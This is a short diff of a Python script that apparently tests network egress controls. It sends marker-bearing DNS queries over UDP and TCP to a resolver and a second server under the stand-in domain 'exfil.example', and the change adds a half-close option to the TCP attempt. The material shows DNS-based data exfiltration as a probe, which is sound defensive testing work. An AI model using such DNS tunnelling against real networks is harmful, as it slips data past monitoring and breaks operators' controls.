@@ -14,5 +14,5 @@ for label, server in (("allowed", resolver), ("second", SECOND)):
     if label == "second":
         print("udp %s: %s" % (server, sc.udp_send(server, 53, sc.dns_query(name))))
     tcp_name = "%s-dnstcp-%s.x.exfil.example" % (m, label)
-    sc.route_attempts("dns-tcp %s" % server, server, 53, sc.dns_tcp_frame(tcp_name), direct=True)
+    sc.route_attempts("dns-tcp %s" % server, server, 53, sc.dns_tcp_frame(tcp_name), direct=True, half_close=True)
 sc.done(args)
